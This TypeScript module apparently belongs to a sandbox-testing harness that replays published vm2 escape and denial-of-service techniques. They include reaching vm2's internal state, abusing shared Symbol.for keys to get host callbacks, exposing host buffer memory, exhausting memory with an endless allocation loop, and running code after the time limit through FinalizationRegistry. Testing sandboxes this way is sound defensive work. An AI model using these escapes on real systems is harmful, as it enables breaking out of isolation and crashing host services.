/** Published ways out through vm2's own state, symbols that both sides share, memory and time. */
import { attempted } from './plunder.ts';
import { type BreakOut, type Loose, late, type Misdeed, realm } from './probe.ts';
import { hostFunction, hostThings } from './reach.ts';

const STATE = 'VM2_INTERNAL_STATE_DO_NOT_USE_OR_PROGRAM_WILL_FAIL';

const symbols = [
  'nodejs.util.promisify.custom',
  'nodejs.rejection',
  'nodejs.stream.readable',
  'nodejs.stream.disturbed',
  'nodejs.stream.errored',
  'nodejs.webstream.controllerErrorFunction',
];

export const state: readonly (BreakOut | Misdeed)[] = [
  {
    name: 'state-by-its-name',
    advisory: 'CVE-2026-44003, GHSA-wp5r-2gw5-m7q7',
    versions: '≤ 3.10.5',
    idea: 'The rewriting of the source refuses the name of vm2’s state, but not where it need not read closely',
    attempt: () => [
      attempted(() => realm.eval?.(`with ({}) { ${STATE} }`)),
      attempted(() => realm.eval?.(`\\u0056${STATE.slice(1)}`)),
      attempted(() => realm.Function?.(`return ${STATE}`)()),
    ],
  },
  {
    name: 'state-by-a-computed-key',
    advisory: 'GHSA-2cm2-m3w5-gp2f',
    versions: '≤ 3.11.1',
    idea: 'The state is a property of the global object, and a key may be computed',
    attempt: () => [
      realm[STATE],
      attempted(() => Reflect.get(globalThis, STATE)),
      attempted(() => Object.getOwnPropertyDescriptor(globalThis, STATE)?.value),
      ...Object.getOwnPropertyNames(globalThis)
        .filter((name) => name.includes('INTERNAL'))
        .map((name) => realm[name]),
    ],
  },
  {
    name: 'shared-symbols',
    advisory: 'CVE-2026-47135, GHSA-m5q2-4fm3-vfqp; GHSA-jf8q-945g-9q4c',
    versions: '≤ 3.11.6',
    idea: 'A symbol of the platform, the same on both sides, put on an object of the host, makes the platform call us',
    attempt() {
      const got: unknown[] = [];
      for (const name of symbols) {
        for (const thing of hostThings()) {
          attempted(() => {
            thing[Symbol.for(name)] = (...given: unknown[]) => void got.push(...given);
          });
          attempted(() => Object.defineProperty(thing, Symbol.for(name), { value: () => hostFunction() }));
          if (attempted(() => Object.hasOwn(thing, Symbol.for(name)))) got.push(thing);
        }
      }
      return got;
    },
  },
  {
    name: 'buffer-of-the-host',
    advisory: 'CVE-2026-92947, GHSA-fcqc-726x-5wfc; CVE-2026-100723, GHSA-489w-w794-jq94',
    versions: '≤ 3.12.1',
    idea: 'Small buffers lie in one memory with the host’s: its ArrayBuffer shows all of it',
    attempt: () =>
      [attempted(() => realm.Buffer.from([0]).buffer), attempted(() => new realm.TextEncoder().encode('x').buffer)]
        .filter((memory) => (memory?.byteLength ?? 0) > 1)
        .map((memory) => ({ told: `${memory.byteLength} bytes of one memory` })),
  },
  {
    name: 'buffers-without-end',
    advisory: 'CVE-2026-44004, GHSA-6785-pvv7-mvg7; CVE-2026-47683, GHSA-gmc2-2x9w-cgh9',
    versions: '≤ 3.11.5',
    idea: 'One call of Buffer.alloc or concat takes more memory than there is, and no time limit stops it',
    answer() {
      const held: unknown[] = [];
      for (const act of [
        () => realm.Buffer.alloc(2 ** 30),
        () => realm.Buffer.concat([], 2 ** 30),
        () => realm.Buffer.from({ length: 2 ** 28 }),
        () => realm.Buffer.allocUnsafeSlow(2 ** 30),
      ]) {
        const taken = attempted(act);
        if (taken !== undefined) held.push(taken);
      }
      return { kind: 'abstained', reason: held.length === 0 ? 'held' : 'took memory' };
    },
    becomes: ['held', 'memory'],
  },
  {
    name: 'typed-arrays-without-end',
    advisory: 'CVE-2026-92961, GHSA-v836-6xw4-9cx3',
    versions: '≤ 3.11.5',
    idea: 'The same by ArrayBuffer and typed arrays, which the limit on buffers did not know',
    answer() {
      const held: Uint8Array[] = [];
      for (;;) held.push(new Uint8Array(64_000_000).fill(1));
    },
    becomes: ['memory', 'timeout', 'crash'],
  },
  {
    name: 'called-by-the-collector',
    advisory: 'CVE-2026-92942, GHSA-r4fx-v8hh-22mv',
    versions: '≤ 3.11.6',
    idea: 'A FinalizationRegistry calls back when garbage is collected: after the answer, without a limit',
    attempt() {
      const registry = attempted(() => new realm.FinalizationRegistry(() => late.push('called by the collector')));
      for (let at = 0; at < 1000; at++) attempted(() => registry.register({ at }, at));
      const found = attempted(() => new realm.WeakRef({}));
      let heap: unknown[] = [];
      for (let at = 0; at < 20; at++) heap = Array.from({ length: 10_000 }, () => ({ heap: at }));
      return [registry, found, heap.length === 0 ? heap : null];
    },
  },
];

/** Told as loose: `Temporal`, `Iterator` and what else came lately to the language. */
export const lately: readonly BreakOut[] = [
  {
    name: 'what-came-lately',
    advisory: '—',
    versions: '—',
    idea: 'What the language got last was not looked at by anybody: iterators’ helpers, Temporal, decorators of arrays',
    attempt() {
      const got: unknown[] = [];
      attempted(() => got.push(realm.Iterator.from({ next: () => ({ done: true }) })));
      attempted(() => got.push(realm.Iterator.prototype.map.call([].values(), (value: Loose) => value)));
      attempted(() => got.push(realm.Temporal.PlainDate.from('2020-01-01'), realm.Temporal.Duration.from({ days: 1 })));
      attempted(() =>
        got.push(
          (Object as Loose).groupBy([1], () => 'x'),
          (Map as Loose).groupBy([1], () => 'x'),
        ),
      );
      attempted(() => got.push(realm.Float16Array.of(1), realm.structuredClone?.({}), realm.Error.isError?.(1)));
      attempted(() => got.push(new realm.ShadowRealm()));
      attempted(() => got.push((Promise as Loose).try(() => 1)));
      attempted(() => got.push(new realm.DisposableStack(), new realm.AsyncDisposableStack()));
      return got;
    },
  },
];
